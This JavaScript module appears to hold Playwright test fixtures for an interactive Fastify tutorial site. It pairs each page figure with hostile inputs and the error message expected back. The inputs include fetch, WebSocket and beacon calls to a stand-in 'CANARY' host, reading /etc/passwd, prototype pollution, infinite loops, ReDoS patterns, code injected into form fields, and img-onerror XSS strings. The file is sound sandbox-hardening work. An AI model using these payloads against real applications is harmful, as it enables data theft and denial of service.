import { deflateRawSync } from 'node:zlib'

/**
 * @typedef {Array<[label: string, value: string]>} Inputs what is put into which field; a field is found by its label
 * @typedef {import('playwright-core').Locator} Locator
 * @typedef {object} Figure one that is attacked: where it is, where its fields are and where it says what is wrong; what to do before its fields are
 *   there and after they are filled; another good input at each turn, and what is seen then. Where `submit` waits for the answer, one attack shows that
 *   the figure has stood the one before.
 * @property {string} path
 * @property {string} [within]
 * @property {string} [lines]
 * @property {(lab: Locator) => Promise<void>} [prepare]
 * @property {(lab: Locator) => Promise<void>} [submit]
 * @property {true} [waits]
 * @property {(turn: number) => Inputs} [good]
 * @property {(turn: number) => string | RegExp} shows
 */

const widget = (name) => `[data-widget="${name}"]`

const editPlugin = async (/** @type {Locator} */ lab, /** @type {string} */ name) => {
  await lab.getByRole('button', { name: 'Edit the plugins' }).click()
  await lab.getByLabel('Plugin', { exact: true }).selectOption(name)
}

/** @type {Record<string, Figure>} */
export const FIGURES = {
  serialization: {
    path: 'mechanisms/serialization',
    prepare: async (lab) => { await lab.getByRole('button', { name: 'Edit what is written' }).click() },
    good: (turn) => [['Schema', '{}'], ['Value', `'held ${turn}'`]],
    shows: (turn) => `"held ${turn}"`
  },
  routing: {
    path: 'mechanisms/routing',
    prepare: async (lab) => { await lab.getByRole('button', { name: 'Edit the routes' }).click() },
    good: (turn) => [['Routes', `/held/${turn}`], ['GET', `/held/${turn}`]],
    shows: (turn) => `/held/${turn} answers`
  },
  input: {
    path: 'mechanisms/input',
    good: (turn) => [['content-type', 'application/json'], ['schema.body', ''], ['The body', `{"held":${turn}}`]],
    shows: (turn) => `{"held":${turn}}`
  },
  logging: {
    path: 'mechanisms/logging',
    good: (turn) => [['redact', ''], ['child(bindings)', '{}'], ['The object', `{ "held": ${turn} }`], ['The message', 'held']],
    shows: (turn) => `"held":${turn}`
  },
  encapsulation: {
    path: 'mechanisms/encapsulation',
    prepare: async (lab) => {
      await lab.locator('[aria-label="Begin with"] button', { hasText: 'A decorator that siblings miss' }).evaluate((button) => /** @type {HTMLElement} */ (button).click())
      await editPlugin(lab, 'orders')
    },
    good: (turn) => [['Prefix', `/held${turn}`]],
    shows: (turn) => `GET /held${turn}/orders`
  },
  plugins: {
    path: 'mechanisms/plugins',
    prepare: async (lab) => { await editPlugin(lab, 'orders') },
    good: (turn) => [['waits', String(turn % 4)]],
    shows: (turn) => new RegExp(`ready after ${5 + turn % 4} units`)
  },
  hooks: {
    path: 'mechanisms/hooks',
    prepare: async (lab) => { await lab.getByRole('button', { name: 'Change what each does' }).click() },
    good: (turn) => [['authorize', turn % 2 ? 'works' : 'forgets']],
    shows: (turn) => turn % 2 ? /The client gets 201/ : /The client gets 404/
  },
  lifecycle: {
    path: 'mechanisms/lifecycle',
    prepare: async (lab) => { await lab.locator('svg:visible [data-phase=preHandler]').press('Enter') },
    good: (turn) => [['does what', turn % 2 ? 'throw' : 'pass']],
    shows: (turn) => turn % 2 ? 'thrown in preHandler' : '"item":"tea"'
  },
  workbench: {
    path: 'build/server',
    lines: `${widget('workbench')} [data-reason]`,
    prepare: async (lab) => { await lab.getByRole('button', { name: 'Open the editor' }).click() },
    submit: async (lab) => { await lab.getByRole('button', { name: 'Run checks' }).click() },
    good: (turn) => [['Text of fastify.js', `export default () => { throw new Error('held ${turn}.') }`]],
    shows: (turn) => `held ${turn}.`
  },
  play: {
    path: 'play',
    lines: `${widget('play')} :is([role=alert], [data-failure], [data-answer])`,
    prepare: async (lab) => {
      await lab.locator('[data-code]').hover()
      await lab.getByLabel('Text of app.js').waitFor()
    },
    submit: async (lab) => {
      await lab.getByRole('button', { name: 'Run', exact: true }).click()
      await lab.getByRole('region', { name: 'What happens' }).getByRole('status').filter({ hasNotText: /It runs|has changed since|has not run yet/ }).waitFor({ state: 'attached' })
    },
    waits: true,
    good: (turn) => [['Text of app.js', `module.exports = async (app) => { app.get('/*', async () => 'held ${turn}.') }`]],
    shows: (turn) => `held ${turn}.`
  },
  search: {
    path: '',
    within: '[role=search]',
    lines: '[role=search] [role=status]',
    good: () => [['Search the pages', 'radix']],
    shows: () => /^\d+ results?\.$/
  },
  closures: { path: 'mechanisms/closures', shows: () => /./ },
  processes: { path: 'mechanisms/processes', shows: () => /./ },
  claims: { path: 'lab/claims', within: 'main', shows: () => /of \d+ claims/ },
  flamegraphs: { path: 'lab/express-vs-fastify', within: 'main', shows: () => /./ },
  'should-you-move': { path: 'should-you-move', shows: () => /./ }
}

/**
 * @typedef {[name: string, code: string, line?: RegExp]} Typed what is tried, and what the figure has to say; `CANARY` stands for the address of another host
 * @typedef {[figure: string, name: string, type: Inputs, line?: RegExp]} Attack without a line, it says nothing of a fault
 */

/**
 * A value that the serialization figure runs.
 * What any program is kept from is tried in the playground, whose worker is the same.
 */
const VALUES = [
  ['loops in a getter', '({ get a () { for (;;); } })', /stopped after 2 seconds/],
  ['loops between the tasks', '(() => { const again = () => Promise.resolve().then(again); again(); return 1 })()'],
  ['writes a huge text', "'x'.repeat(2e7)", /longer than 1000000 characters|stopped after 2 seconds/],
  ['waits for the next message', "(Object.defineProperty(MessageEvent.prototype, 'data', { get () { this.target.postMessage({ id: 1, text: '1' }) } }), 1)", /MessageEvent is not defined/],
  ['throws when it is looked at', 'new Proxy({}, { get () { throw new Error("no look") }, ownKeys () { throw new Error("no keys") } })', /cannot be compared: no/],
  ['nests without an end', `${'['.repeat(1900)}${']'.repeat(1900)}`],
  ['pastes a million characters', 'x'.repeat(1e6), /longer than 4000 characters/]
]

/** A handler of a plugin. */
const inHandler = (code) => `module.exports = async (app) => { app.get('/*', async (request, reply) => { ${code} }) }`

/** What somebody types into the playground. */
const PROGRAMS = [
  ['fetches', "export default await fetch('CANARY')", /fetch (?:failed|is not defined)/],
  ['reaches for the page', 'export default parent.document.title', /parent is not defined/],
  ['goes elsewhere', "top.location = 'CANARY'", /top is not defined/],
  ['starts a worker of its own', "export default new Worker('CANARY')", /Worker is not defined/],
  ['imports from the network', "import 'CANARY/x.js'", /which is not here/],
  ['imports from the network as it runs', "export default await import('CANARY/x.js')"],
  ['loops for ever', 'for (;;);', /stopped after 2 seconds/],
  ['pollutes what all objects inherit', 'Object.prototype.polluted = 1', /changes Object\.prototype/],
  ['answers in place of the checks', "postMessage({ id: 1, text: '{\"passed\":true}' })", /postMessage is not defined/],
  ['throws what has no text', 'throw Object.create(null)'],
  ['reads the storage', 'export default localStorage.length', /localStorage is not defined/],
  ['throws an error whose text is made without an end', "throw { get message () { return 'y'.repeat(1e7) } }", /y{500}|stopped after 2 seconds/],
  ['throws a pile of marks', "throw new Error('w' + '\\u0301'.repeat(45_000))", /w.{16}/],
  ['asks for more memory than there is', 'new ArrayBuffer(2 ** 45)', /Invalid array buffer length|Array buffer allocation failed/],
  ['opens a socket', "new WebSocket('CANARY'.replace('http', 'ws'))", /WebSocket is not defined/],
  ['sends a beacon', "navigator.sendBeacon('CANARY')", /navigator is not defined/],
  ['reads a file', "require('node:fs').readFileSync('/etc/passwd')", /node:fs is not in a page/],
  ['ends the process', 'process.exit(1)', /process\.exit\(1\) was called/],
  ['asks for what all objects inherit', "require('__proto__')", /Cannot find module '__proto__'/],
  ['loops in a handler', inHandler('for (;;);'), /stopped after 2 seconds/],
  ['loops in a getter of the answer', inHandler('return { get a () { for (;;); } }'), /stopped after 2 seconds/],
  ['fills the memory', 'const all = []; for (let i = 0; ; i++) all.push({ a: i, b: [i] })', /stopped after 2 seconds/],
  ['never boots', 'module.exports = (app, options, done) => {}', /the boot did not end/],
  ['never answers', inHandler('await new Promise(() => {})'), /no answer/],
  ['prints without an end', inHandler("for (let i = 0; i < 1e5; i++) console.log('x'.repeat(1e5)); return 1"), /longer than 1000000 characters/],
  ['nests without an end', inHandler('let v = 1; for (let i = 0; i < 1e5; i++) v = [v]; return v'), /500|Maximum call stack/],
  ['floods whoever listens', 'for (;;) postMessage({ ready: true })', /postMessage is not defined/],
  ['floods with errors', inHandler('for (let i = 0; i < 1e4; i++) setTimeout(() => { throw new Error(i) }); return 1'), /200|stopped after 2 seconds/],
  ['forges the result', 'JSON.stringify = () => 1', /changes JSON/],
  ['makes each object a promise', 'Object.prototype.then = (resolve) => resolve({})', /stopped after 2 seconds|changes Object\.prototype/],
  ['replaces how lists are read', 'Array.prototype[Symbol.iterator] = () => { throw 1 }', /changes Array\.prototype/],
  ['calls in the place of functions', 'Function.prototype.call = Function.prototype.apply = Reflect.apply = () => 1', /changes (?:Function\.prototype|Reflect)/],
  ['forges what was seen, and puts things back', "const { map } = Array.prototype\nmodule.exports = async (app) => { app.addHook('onRequest', async () => { Array.prototype.map = () => 7 }); app.get('/*', async () => { Array.prototype.map = map; return 1 }) }", /200|500|no answer/],
  ['walks up to who called it', inHandler("return new Function('let f = arguments.callee; while (f.caller) f = f.caller; return f.arguments[0].target.postMessage({ id: 1, text: 0 })')()"), /500/],
  ['throws when it is looked at', "throw new Proxy({}, { get () { throw new Error('no look') }, getPrototypeOf () { throw new Error('no look') } })", /has no text/],
  ['makes code of a schema', "module.exports = async (app) => { app.get('/', { schema: { response: { 200: { type: 'object', properties: { '\"]; for (;;); //': { type: 'string' } } } } } }, async () => ({})) }", /404/]
]

/** What somebody types into a chapter of the book, which runs as the playground does. */
const CHAPTERS = [
  ['answers what no text can be made of', 'Object.prototype.toJSON = () => { delete Object.prototype.toJSON; return { passed: false, reason: { toString: null } } }', /something that is no text/]
]

/** What is typed into the fields of a figure. @type {Attack[]} */
export const TYPED = [
  ...VALUES.map(([name, code, line]) => /** @type {Attack} */ (['serialization', name, [['Value', code]], line])),
  ...CHAPTERS.map(([name, code, line]) => /** @type {Attack} */ (['workbench', name, [['Text of fastify.js', code]], line])),
  ...PROGRAMS.map(([name, code, line]) => /** @type {Attack} */ (['play', name, [['Text of app.js', code]], line])),
  ['routing', 'a regular expression that does not end', [['Routes', '/a/:x(^(a|a|a|a)*$)'], ['GET', `/a/${'a'.repeat(40)}b`]], /stopped after 2 seconds/],
  ['routing', 'code in a route', [['Routes', "/:a'];for(;;);//"], ['GET', '/x']]],
  ['routing', 'a route that is everywhere', [['Routes', '/x\n'.repeat(1e5)]], /at most 40 routes/],
  ['routing', 'a URL of a million characters', [['GET', `/${'a'.repeat(1e6)}`]], /longer than 200 characters/],
  ['input', 'a prototype in a body', [['The body', '{ "__proto__": { "polluted": 1 }, "constructor": { "prototype": 1 } }']]],
  ['input', 'a body of a million characters', [['The body', 'x'.repeat(1e6)]], /The body takes at most 2000 characters/],
  ['input', 'a pattern that does not end', [['schema.body', '{ "type": "string", "pattern": "^(a|a|a|a)*$" }'], ['The body', `"${'a'.repeat(40)}b"`]], /stopped after 2 seconds/],
  ['input', 'code in a schema', [['schema.body', '{ "type": "object", "properties": { "\\"]; for (;;); //": { "type": "string" } } }']]],
  ['logging', 'ten million characters to log', [['The object', `{"a":"${'a'.repeat(1e7)}"}`]], /the object takes at most 2000 characters/],
  ['logging', 'code in a path to redact', [['redact', "a'];for(;;);//"]], /redact takes paths/],
  ['encapsulation', 'code as a prefix', [['Prefix', "/');process.exit()//"]], /The prefix of/],
  ['search', 'sixty thousand characters', [['Search the pages', 'fastify router '.repeat(4000)]], /The search reads 4000 characters/],
  ['search', 'a million characters', [['Search the pages', 'x'.repeat(1e6)]], /The search reads 4000 characters/],
  ['search', 'nothing but signs', [['Search the pages', '.*+?^${}()|[]\\<img src=CANARY onerror=alert(1)>']], /No results|results?\./],
  ['serialization', 'makes code of a schema', [['Schema', '{ type: "object", properties: { "\\"]; for (;;); //": { type: "string" } } }'], ['Value', '1']]]
]

const linkOf = ({ code = '', ...request }) => `#code=${deflateRawSync(JSON.stringify({ code, requests: [{ method: 'GET', url: '/', headers: '', body: '', ...request }] })).toString('base64url')}`
/** A browser takes seconds for one letter with so many. */
const MARKS = '\u0301'.repeat(19_000)

/** What is appended to the address of a figure's page. @type {Array<[figure: string, name: string, address: string, line?: RegExp]>} */
export const ADDRESSES = [
  ['serialization', 'code in the hash', '#schema={}&value=fetch("CANARY")'],
  ['closures', 'code in the query', '?figure=%3Cimg%20src%3DCANARY%20onerror%3Dalert(1)%3E&__proto__=1'],
  ['lifecycle', 'hooks of all objects', `?figure=${encodeURIComponent('{"__proto__":{"method":1},"hooks":{"onSend":{"style":"__proto__","does":"constructor"}}}')}`],
  ['processes', 'a service of nothing', '?figure=__proto__-NaN-1e999--1-Infinity-%3Cimg%20src%3DCANARY%3E'],
  ['claims', 'filters of all objects', '?mechanism=toString&verdict=__proto__&node=constructor#%E0%A4%A'],
  ['flamegraphs', 'a recording of all objects', '?run=__proto__'],
  ['play', 'a link that is damaged', '#code=%%%', /this link is damaged/],
  ['play', 'a link that unpacks without an end', `#code=${deflateRawSync(Buffer.alloc(5e6, 'a')).toString('base64url')}`, /holds more than a program/],
  ['play', 'a link with code that runs at once', `#code=${deflateRawSync('{"code":"for (;;);","requests":[]}').toString('base64url')}`],
  ['play', 'a link of nothing but lines', linkOf({ code: '\n'.repeat(49_000) }), /holds something else than a program/],
  ['play', 'a problem of all objects', '?problem=__proto__&part=constructor', /no program that runs in a page/],
  ['play', 'an error of all objects', '?error=constructor&part=__proto__', /no program that runs in a page/],
  ['should-you-move', 'sums of nothing', `?figure=${encodeURIComponent('{"from":"__proto__","node":1e999,"handler":[]}')}`],
  ['play', 'a pile of marks in a link', linkOf({ headers: `x: ${MARKS}` }), /holds something else than a program/]
]
